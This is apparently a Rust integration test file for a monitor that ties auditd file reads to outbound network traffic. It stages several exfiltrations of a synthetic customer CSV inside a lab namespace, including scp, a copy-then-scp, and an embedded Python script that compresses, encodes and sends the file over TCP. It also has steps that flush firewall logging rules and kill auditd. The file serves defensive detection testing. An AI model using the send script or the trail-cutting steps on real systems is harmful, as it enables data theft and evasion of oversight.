//! Sensitive files end to end: the real kernel audit trail and auditd, the project's own watch
//! rules, real users reading a watched CSV and sending data out of a network namespace, and
//! `exfilmon run --audit-log` tying the two together. The owner's question — "did anyone copy
//! the file out?" — as one test per case: scp of the file; a pull of it with scp from outside;
//! cp to an innocuous name, then scp;
//! a Python script that compresses it and sends it over TCP; and the innocent cases: a user who
//! reads it for analysis and sends nothing, a user who reads it and runs a short ssh command.
//!
//! Needs root, auditd (Debian package `auditd`) and the lab's tools; without them each test
//! skips with a printed reason, and under CI=true a skip fails. auditd is started here with its
//! own configuration and log in a temporary directory (a stale one from an earlier run of these
//! tests is stopped first); an auditd already running for the system is used as it is. Rules
//! carry a key unique to the test process and are deleted at the end, also on failure.
//!
//! The replay tests at the bottom need nothing: they run on pcaps/sensitive/, recorded by
//! pcaps/sensitive.sh with the same scenarios.
//!
//! Run: `sudo -E cargo test --test sensitive -- --nocapture`

mod common;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use common::lab::{exec, must, wait_for, Lab, Monitor, USERS};
use common::{alerts_of, bin, fixture, report, report_with, run, skip, temp_db, EXFILMON};
use serde_json::Value;

/// Marks auditd processes started by these tests (their config directory's name).
const AUDITD_MARK: &str = "exfmon-auditd";
/// The CSV's size: a threshold of a quarter is 512 KiB, far above a short ssh command.
const CSV_BYTES: usize = 2 << 20;

/// auditd for one test: started here (own config and log) or the system's, and the rules.
struct Auditd {
    child: Option<Child>,
    log: PathBuf,
    key: String,
    /// `auditctl -s` said `enabled 0` before: switched back at the end.
    was_disabled: bool,
    _dir: Option<tempfile::TempDir>,
}

fn status_field(status: &str, name: &str) -> Option<i64> {
    status.lines().find_map(|l| l.strip_prefix(name)?.trim().parse().ok())
}

impl Auditd {
    fn start(key: &str) -> Option<Auditd> {
        let status = exec(&["sh", "-c", "command -v auditd >/dev/null && auditctl -s"]);
        if !status.status.success() {
            skip(&format!(
                "auditd/auditctl missing or the kernel audit subsystem unavailable (apt-get install auditd): {}",
                String::from_utf8_lossy(&status.stderr).trim()
            ));
            return None;
        }
        let status = String::from_utf8_lossy(&status.stdout).into_owned();
        let was_disabled = status_field(&status, "enabled") == Some(0);
        let pid = status_field(&status, "pid").unwrap_or(0);
        let cmdline = fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        let running = pid > 0 && !cmdline.is_empty();
        if running && String::from_utf8_lossy(&cmdline).contains(AUDITD_MARK) {
            // Left behind by an earlier run of these tests (killed before its cleanup).
            must(&["kill", &pid.to_string()]);
            wait_for(Duration::from_secs(10), "the stale auditd to exit", || {
                !Path::new(&format!("/proc/{pid}")).exists()
            });
        } else if running {
            let conf = fs::read_to_string("/etc/audit/auditd.conf").unwrap_or_default();
            let log = conf
                .lines()
                .find_map(|l| {
                    Some(l.split_once('=')?).filter(|(k, _)| k.trim() == "log_file").map(|(_, v)| v.trim().to_string())
                })
                .unwrap_or_else(|| "/var/log/audit/audit.log".into());
            eprintln!("using the system's auditd (pid {pid}), log {log}");
            return Some(Auditd { child: None, log: log.into(), key: key.into(), was_disabled, _dir: None });
        }
        let dir = tempfile::Builder::new().prefix(AUDITD_MARK).tempdir().unwrap();
        let log = dir.path().join("audit.log");
        fs::write(
            dir.path().join("auditd.conf"),
            format!(
                "local_events = yes\nwrite_logs = yes\nlog_file = {}\nlog_format = ENRICHED\nflush = INCREMENTAL_ASYNC\n\
                 freq = 50\nmax_log_file = 8\nnum_logs = 2\nmax_log_file_action = ROTATE\nname_format = NONE\n\
                 space_left = 75\nspace_left_action = SYSLOG\nadmin_space_left = 50\nadmin_space_left_action = SYSLOG\n\
                 disk_full_action = SYSLOG\ndisk_error_action = SYSLOG\nend_of_event_timeout = 2\n",
                log.display()
            ),
        )
        .unwrap();
        fs::set_permissions(dir.path().join("auditd.conf"), fs::Permissions::from_mode(0o640)).unwrap();
        let child = Command::new("auditd")
            .args(["-n", "-c"])
            .arg(dir.path())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(fs::File::create(dir.path().join("auditd.err")).unwrap())
            .spawn()
            .unwrap();
        let me = child.id() as i64;
        let d = Auditd { child: Some(child), log: log.clone(), key: key.into(), was_disabled, _dir: Some(dir) };
        wait_for(Duration::from_secs(15), "auditd to register with the kernel", || {
            status_field(&must(&["auditctl", "-s"]), "pid") == Some(me) && log.exists()
        });
        Some(d)
    }

    /// Loads the rules `exfilmon audit-rules` prints for `config`.
    fn load_rules(&self, config: &Path, dir: &Path) {
        let rules = must(&[EXFILMON, "audit-rules", "--config", config.to_str().unwrap()]);
        assert!(rules.contains(&format!("-p r -k {}", self.key)), "{rules}");
        let file = dir.join("exfilmon.rules");
        fs::write(&file, rules).unwrap();
        must(&["auditctl", "-R", file.to_str().unwrap()]);
        assert!(must(&["auditctl", "-l"]).contains(&self.key));
    }
}

impl Drop for Auditd {
    fn drop(&mut self) {
        let _ = exec(&["auditctl", "-D", "-k", &self.key]);
        if let Some(c) = &mut self.child {
            let _ = exec(&["kill", &c.id().to_string()]);
            let _ = c.wait();
        }
        if self.was_disabled {
            let _ = exec(&["auditctl", "-e", "0"]);
        }
    }
}

/// Everything one case needs: the lab with sshd, auditd with the rules, the monitor.
/// Fields drop in order: the monitor, then auditd and its rules, then the lab (releasing the
/// lab lock only when this test's auditd is gone).
struct Setup {
    monitor: Option<Monitor>,
    audit: Auditd,
    lab: Lab,
    ssh: Vec<String>,
    csv: PathBuf,
    db: PathBuf,
}

impl Setup {
    fn new(apply: bool) -> Option<Setup> {
        let mut lab = Lab::new()?;
        let key = format!("exfmon-t{}", std::process::id());
        let audit = Auditd::start(&key)?;
        let ssh = lab.start_sshd();
        let data = lab.path("data");
        fs::create_dir_all(&data).unwrap();
        fs::set_permissions(&data, fs::Permissions::from_mode(0o755)).unwrap();
        let csv = data.join("sensitive1.csv");
        fs::write(&csv, csv_text(CSV_BYTES)).unwrap();
        fs::set_permissions(&csv, fs::Permissions::from_mode(0o644)).unwrap();
        let cfg = lab.path("exfilmon.toml");
        fs::write(
            &cfg,
            format!(
                "[nft]\naudit = true\n[sensitive]\npaths = [\"{}\"]\naudit_key = \"{key}\"\nwindow = \"30m\"\n",
                csv.display()
            ),
        )
        .unwrap();
        if apply {
            let out = run(&["audit-rules", "--apply", "--config", cfg.to_str().unwrap()]);
            let said = String::from_utf8_lossy(&out.stderr).into_owned();
            assert!(out.status.success(), "audit-rules --apply: {said}");
            assert!(said.contains("wrote /etc/audit/rules.d/exfilmon.rules") && said.contains("loaded"), "{said}");
            assert!(must(&["auditctl", "-l"]).contains(&key), "rules loaded");
            let out = run(&["audit-rules", "--remove", "--config", cfg.to_str().unwrap()]);
            assert!(out.status.success(), "audit-rules --remove: {}", String::from_utf8_lossy(&out.stderr));
            assert!(!must(&["auditctl", "-l"]).contains(&key), "rules removed");
            assert!(!Path::new("/etc/audit/rules.d/exfilmon.rules").exists());
            // augenrules --load reset auditd's settings and rules: the test's own again.
        }
        audit.load_rules(&cfg, lab.dir.path());
        let db = lab.path("live.db");
        let monitor = start_monitor(&lab, &cfg, &db, &audit.log);
        lab.load_ruleset(&cfg);
        Some(Setup { monitor: Some(monitor), audit, lab, ssh, csv, db })
    }

    /// Waits for the monitor to have stored `user`'s read of the file.
    fn wait_read(&self, user: &str) {
        let uid = Lab::uid(user);
        wait_for(Duration::from_secs(15), "the read in report files", || {
            report(&self.db, "files").as_array().unwrap().iter().any(|r| r["fsuid"] == uid)
        });
    }

    /// Stops the monitor (flushing everything) and returns `report files` and all alerts.
    fn finish(&mut self) -> (Vec<Value>, Vec<Value>) {
        // NFLOG batches for up to the ruleset's timeout; the audit log is polled every tick.
        std::thread::sleep(Duration::from_millis(1500));
        let (status, log) = self.monitor.take().unwrap().stop();
        assert!(status.success(), "{log}");
        let files = report(&self.db, "files").as_array().unwrap().clone();
        let alerts = report(&self.db, "alerts").as_array().unwrap().clone();
        (files, alerts)
    }

    /// The one sensitive_egress alert: checks what it names (`dst`: the start of its
    /// destination, whose port is the client's own for a pull).
    fn check_alert(&self, user: &str, exe: &str, dst: &str) -> Value {
        let uid = Lab::uid(user);
        let start = std::time::Instant::now();
        while alerts_of(&self.db, "sensitive_egress").is_empty() {
            assert!(
                start.elapsed() < Duration::from_secs(15),
                "no sensitive_egress alert within 15 s; files: {:#}\nusers: {:#}\naudit records: {}",
                report(&self.db, "files"),
                report(&self.db, "users"),
                fs::read_to_string(&self.audit.log)
                    .unwrap_or_default()
                    .lines()
                    .filter(|l| l.contains(&self.audit.key))
                    .count()
            );
            std::thread::sleep(Duration::from_millis(100));
        }
        let alerts = alerts_of(&self.db, "sensitive_egress");
        assert_eq!(alerts.len(), 1, "{alerts:#?}");
        let a = &alerts[0];
        assert_eq!((a["uid"].as_u64(), a["user"].as_str()), (Some(uid.into()), Some(user)), "{a:#}");
        assert!(a["dst"].as_str().unwrap().starts_with(dst), "{a:#}");
        assert!(a["bytes"].as_u64().unwrap() >= (CSV_BYTES / 4) as u64, "{a:#}");
        let file = &a["details"]["files"][0];
        assert_eq!(file["path"], self.csv.to_str().unwrap(), "{a:#}");
        assert!(file["exe"].as_str().unwrap().contains(exe), "{a:#}");
        assert_eq!(file["size"], CSV_BYTES, "{a:#}");
        let summary = a["summary"].as_str().unwrap();
        assert!(summary.contains(self.csv.to_str().unwrap()) && summary.contains(exe), "{summary}");
        a.clone()
    }
}

fn start_monitor(lab: &Lab, cfg: &Path, db: &Path, audit_log: &Path) -> Monitor {
    lab.start_monitor_with(cfg, db, "monitor.log", &["--audit-log".as_ref(), audit_log.as_os_str()])
}

/// A customer table: ids, names, e-mail addresses, amounts, dates and a token per row, so it
/// compresses the way real CSV does (zlib + base85 to about a third or more).
fn csv_text(bytes: usize) -> String {
    let names = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy"];
    let mut out = String::from("id,name,email,amount,date,token\n");
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut i = 0;
    while out.len() < bytes {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        let n = names[(x % 10) as usize];
        out.push_str(&format!(
            "{i},{n} {},{n}.{}@example.com,{}.{:02},2026-{:02}-{:02},{:016x}\n",
            names[(x >> 8) as usize % 10],
            x % 997,
            x % 100_000,
            x % 100,
            x % 12 + 1,
            x % 28 + 1,
            x.rotate_left(17)
        ));
        i += 1;
    }
    out.truncate(bytes);
    out
}

/// The owner's first case: `scp /data/sensitive1.csv elsewhere:`. The rules are installed with
/// `exfilmon audit-rules --apply` (and removed with --remove) here, once.
#[test]
fn scp_of_the_file_names_file_user_program_destination_and_bytes() {
    let Some(mut s) = Setup::new(true) else {
        return;
    };
    let user = USERS[0];
    s.lab.scp(&s.ssh, user, &s.csv);
    let dst = format!("{}:22/tcp", s.lab.peer);
    s.check_alert(user, "/usr/bin/scp", &dst);
    let (files, alerts) = s.finish();
    let row = files.iter().find(|r| r["user"] == user).expect("the read is in report files");
    assert_eq!(row["file"], s.csv.to_str().unwrap());
    assert_eq!(row["program"], "/usr/bin/scp");
    assert!(row["sent_after"].as_u64().unwrap() >= CSV_BYTES as u64 / 4, "{row:#}");
    assert!(row["destinations"].as_str().unwrap().contains(&dst), "{row:#}");
    assert_eq!(row["alerts"], 1);
    // The audit trail's NETFILTER_PKT records matched what NFLOG delivered.
    assert!(alerts.iter().all(|a| a["kind"] != "audit_mismatch"), "{alerts:#?}");
    let counters = &report(&s.db, "health")[0]["counters"]["skipped"];
    assert!(counters["audit_netfilter_pkt_matched"].as_u64().unwrap() >= 1, "{counters:#}");
    assert_eq!(counters["audit_netfilter_pkt_unmatched"], 0, "{counters:#}");
}

/// The owner's question the other way round: from outside, `scp USER@server:sensitive1.csv .`.
/// The session's sftp-server reads the file as the user; the bytes leave through sshd's socket,
/// which is root's, and the monitor sees them in one NFLOG batch after the session ended, so
/// no lookup sees its login uid: the audit trail's LOGIN record moves them to the user. The
/// alert names the user, the file and the client, never root.
#[test]
fn a_pull_of_the_file_over_ssh_from_outside_is_tied_to_the_reader() {
    let Some(mut s) = Setup::new(false) else {
        return;
    };
    let user = USERS[0];
    let (ssh, host) = s.lab.start_sshd_inside(user);
    s.lab.pull(&ssh, &format!("{host}:{}", s.csv.display()), &s.lab.path("pulled.csv"));
    s.check_alert(user, "sftp-server", &format!("{}:", s.lab.peer));
    let (files, alerts) = s.finish();
    let root: Vec<_> = alerts.iter().filter(|a| a["kind"] == "sensitive_egress" && a["uid"] == 0).collect();
    assert!(root.is_empty(), "blamed on root: {root:#?}");
    let row = files.iter().find(|r| r["user"] == user).expect("the read is in report files");
    assert!(row["sent_after"].as_u64().unwrap() >= CSV_BYTES as u64 / 4, "{row:#}");
}

/// Tampering with one trail: the NFLOG rules flushed while the audit copy stays, then auditd
/// stopped. The first is an audit_mismatch (connections audited, never logged), the second an
/// audit_off alert.
#[test]
fn a_trail_cut_or_stopped_is_a_health_alert() {
    let Some(mut s) = Setup::new(false) else {
        return;
    };
    let out =
        s.lab.inside(&["nft", "flush chain inet exfilmon egress; add rule inet exfilmon egress jump audit_trail"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    s.lab.ssh_true(&s.ssh, USERS[0]);
    wait_for(Duration::from_secs(20), "an audit_mismatch alert", || !alerts_of(&s.db, "audit_mismatch").is_empty());
    let a = &alerts_of(&s.db, "audit_mismatch")[0];
    assert!(a["summary"].as_str().unwrap().contains("never reached NFLOG"), "{a:#}");
    // This kernel's NETFILTER_PKT records carry addresses and protocol; newer ones add ports.
    assert!(a["dst"].as_str().unwrap().starts_with(&s.lab.peer), "{a:#}");
    if let Some(c) = &mut s.audit.child {
        must(&["kill", &c.id().to_string()]);
        let _ = c.wait();
        wait_for(Duration::from_secs(10), "an audit_off alert", || !alerts_of(&s.db, "audit_off").is_empty());
        let a = &alerts_of(&s.db, "audit_off")[0];
        assert!(a["summary"].as_str().unwrap().contains("auditd stopped"), "{a:#}");
    }
    s.finish();
}

/// Copied to an innocuous name in the home directory first, then sent: the read was of the
/// sensitive file (by cp), the egress by the same user.
#[test]
fn cp_to_an_innocuous_name_then_scp_is_still_tied_to_the_file() {
    let Some(mut s) = Setup::new(false) else {
        return;
    };
    let user = USERS[0];
    let copy = s.lab.path(user).join("notes.txt");
    s.lab.as_user(user, &["cp", s.csv.to_str().unwrap(), copy.to_str().unwrap()]);
    s.lab.scp(&s.ssh, user, &copy);
    s.check_alert(user, "/usr/bin/cp", &format!("{}:22/tcp", s.lab.peer));
    s.finish();
}

/// A script of the user's own: reads the file, compresses it (zlib + base85, about a third
/// of its size) and sends it over a plain TCP connection to a port nobody watches.
#[test]
fn python_script_compressing_and_sending_over_tcp_is_caught() {
    let Some(mut s) = Setup::new(false) else {
        return;
    };
    let user = USERS[1];
    let peer = s.lab.peer.clone();
    let outside = s.lab.outside.clone();
    s.lab.spawn_in(
        &outside,
        &["socat", "-u", &format!("TCP-LISTEN:9000,bind={peer},reuseaddr,fork"), "OPEN:/dev/null"],
        "sink.log",
    );
    s.lab.wait_listening("t", 9000);
    let script = s.lab.path("send.py");
    fs::write(
        &script,
        "import base64, socket, sys, zlib\n\
         data = base64.b85encode(zlib.compress(open(sys.argv[1], 'rb').read(), 9))\n\
         print(len(data))\n\
         with socket.create_connection((sys.argv[2], 9000)) as s:\n    s.sendall(data)\n",
    )
    .unwrap();
    fs::set_permissions(&script, fs::Permissions::from_mode(0o644)).unwrap();
    let sent: usize = s
        .lab
        .as_user(user, &["python3", script.to_str().unwrap(), s.csv.to_str().unwrap(), &peer])
        .trim()
        .parse()
        .unwrap();
    eprintln!("zlib + base85: {sent} bytes of {CSV_BYTES} ({:.0}%)", 100.0 * sent as f64 / CSV_BYTES as f64);
    s.check_alert(user, "python3", &format!("{peer}:9000/tcp"));
    s.finish();
}

/// Reading the file for analysis and sending nothing: the read is reported, nothing alerts.
#[test]
fn reading_for_analysis_and_sending_nothing_raises_no_alert() {
    let Some(mut s) = Setup::new(false) else {
        return;
    };
    let user = USERS[1];
    s.lab.as_user(user, &["wc", "-l", s.csv.to_str().unwrap()]);
    s.lab.as_user(
        user,
        &[
            "python3",
            "-c",
            "import csv,sys; print(sum(float(r['amount']) for r in csv.DictReader(open(sys.argv[1]))))",
            s.csv.to_str().unwrap(),
        ],
    );
    s.wait_read(user);
    let (files, alerts) = s.finish();
    assert!(alerts.iter().all(|a| a["kind"] != "sensitive_egress"), "{alerts:#?}");
    let rows: Vec<&Value> = files.iter().filter(|r| r["user"] == user).collect();
    assert_eq!(rows.len(), 2, "wc and python: {files:#?}");
    assert!(rows.iter().all(|r| r["sent_after"] == 0), "{rows:#?}");
}

/// Reading it, then a short ssh command: a few KiB out, far below a quarter of the file.
#[test]
fn reading_then_a_short_ssh_command_raises_no_alert() {
    let Some(mut s) = Setup::new(false) else {
        return;
    };
    let user = USERS[0];
    s.lab.as_user(user, &["head", "-n", "20", s.csv.to_str().unwrap()]);
    s.lab.ssh_true(&s.ssh, user);
    s.wait_read(user);
    let (files, alerts) = s.finish();
    assert!(alerts.iter().all(|a| a["kind"] != "sensitive_egress"), "{alerts:#?}");
    let row = files.iter().find(|r| r["user"] == user).unwrap();
    let sent = row["sent_after"].as_u64().unwrap();
    assert!(sent > 0 && sent < 16 << 10, "a short ssh command sends a few KiB: {row:#}");
    assert_eq!(row["program"], "/usr/bin/head");
}

/// A file recorded by pcaps/sensitive.sh.
fn recorded(name: &str) -> PathBuf {
    fixture("sensitive").join(name)
}

/// `report <what> --format json` against a database and the recording's configuration.
fn report_recorded(db: &str, what: &str) -> Vec<Value> {
    let config = recorded("exfilmon.toml");
    report_with(db, what, &["--config", config.to_str().unwrap()]).as_array().unwrap().clone()
}

/// The recorded scenarios (pcaps/sensitive.sh: scp; wc + python + ssh true; cp then scp;
/// python zlib + base85 over TCP) replayed with the audit log beside the capture, in both log
/// formats: the same three alerts, the innocent reader quiet, the rules' removal at the end of
/// the recording an audit_off alert, and every NETFILTER_PKT record matched.
#[test]
fn replay_of_the_recorded_scenarios_in_both_log_formats() {
    let meta: Value = serde_json::from_str(&fs::read_to_string(recorded("meta.json")).unwrap()).unwrap();
    let uid = |user: &str| meta["uids"][user].as_u64().unwrap();
    for (log, enriched) in [("audit.log", true), ("audit-raw.log", false)] {
        let (_dir, db) = temp_db();
        let out = bin()
            .arg("replay")
            .arg(recorded("egress.pcap"))
            .arg("--audit-log")
            .arg(recorded(log))
            .arg("--config")
            .arg(recorded("exfilmon.toml"))
            .arg("--db")
            .arg(&db)
            .output()
            .unwrap();
        assert!(out.status.success(), "{log}: {}", String::from_utf8_lossy(&out.stderr));
        let alerts = report_recorded(&db, "alerts");
        let sensitive: Vec<&Value> = alerts.iter().filter(|a| a["kind"] == "sensitive_egress").collect();
        let mut got: Vec<(u64, String)> = sensitive
            .iter()
            .map(|a| (a["uid"].as_u64().unwrap(), a["details"]["files"][0]["exe"].as_str().unwrap().to_string()))
            .collect();
        got.sort();
        let mut want: Vec<(u64, String)> = meta["expected_alerts"]
            .as_object()
            .unwrap()
            .iter()
            .map(|(user, exe)| (uid(user), exe.as_str().unwrap().to_string()))
            .collect();
        want.sort();
        assert_eq!(got.len(), want.len(), "{log}: {alerts:#?}");
        for ((gu, ge), (wu, we)) in got.iter().zip(&want) {
            assert!(gu == wu && ge.contains(we.as_str()), "{log}: {ge} for uid {gu}, want {we} for {wu}");
        }
        for a in &sensitive {
            assert_eq!(a["details"]["files"][0]["path"], meta["csv"], "{log}: {a:#}");
            assert_eq!(a["details"]["files"][0]["size"], meta["csv_size"], "{log}: size from the config");
            assert_eq!(a["details"]["files"][0]["user"].is_string(), enriched, "{log}: {a:#}");
            assert!(a["dst"].as_str().unwrap().starts_with("10.77.11.1:"), "{log}: {a:#}");
        }
        let kinds: Vec<&str> = alerts.iter().map(|a| a["kind"].as_str().unwrap()).collect();
        assert_eq!(kinds.iter().filter(|k| **k == "audit_off").count(), 1, "{log}: {kinds:?}");
        assert!(!kinds.contains(&"audit_mismatch"), "{log}: {alerts:#?}");

        let files = report_recorded(&db, "files");
        assert_eq!(files.len(), 5, "{log}: {files:#?}");
        let bob = uid("exfil-bob");
        let quiet: Vec<&Value> = files.iter().filter(|r| r["fsuid"] == bob).collect();
        assert_eq!(quiet.len(), 2, "wc and python: {files:#?}");
        for r in quiet {
            assert_eq!(r["alerts"], 0);
            assert!(r["sent_after"].as_u64().unwrap() < 16 << 10, "a short ssh command: {r:#}");
        }
    }
}

/// The monitor's counters: every line of the fixture log is used or counted.
#[test]
fn replay_counts_audit_lines_and_netfilter_records() {
    let (dir, db) = temp_db();
    let mut log = fs::read(recorded("audit.log")).unwrap();
    // Hostile lines among the real ones: garbage, invalid UTF-8, a huge line, a bad stamp.
    log.extend_from_slice(b"garbage\n\xff\xfe\ntype=SYSCALL msg=audit(x):\n");
    log.extend(std::iter::repeat_n(b'A', 70_000));
    log.push(b'\n');
    let path = dir.path("audit.log");
    fs::write(&path, log).unwrap();
    let out = bin()
        .arg("replay")
        .arg(recorded("egress.pcap"))
        .arg("--audit-log")
        .arg(&path)
        .arg("--config")
        .arg(recorded("exfilmon.toml"))
        .arg("--db")
        .arg(&db)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let out = Command::new("sqlite3").arg(&db).arg("SELECT counters FROM runs").output();
    let Ok(out) = out else {
        return skip("sqlite3 missing (apt-get install sqlite3)");
    };
    let counters: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(counters["audit_no_type"], 2, "{counters:#}");
    assert_eq!(counters["audit_bad_stamp"], 1, "{counters:#}");
    assert_eq!(counters["audit_line_too_long"], 1, "{counters:#}");
    assert!(counters["audit_netfilter_pkt"].as_u64().unwrap() >= 4, "{counters:#}");
    assert_eq!(counters["audit_netfilter_pkt"], counters["audit_netfilter_pkt_matched"], "{counters:#}");
}
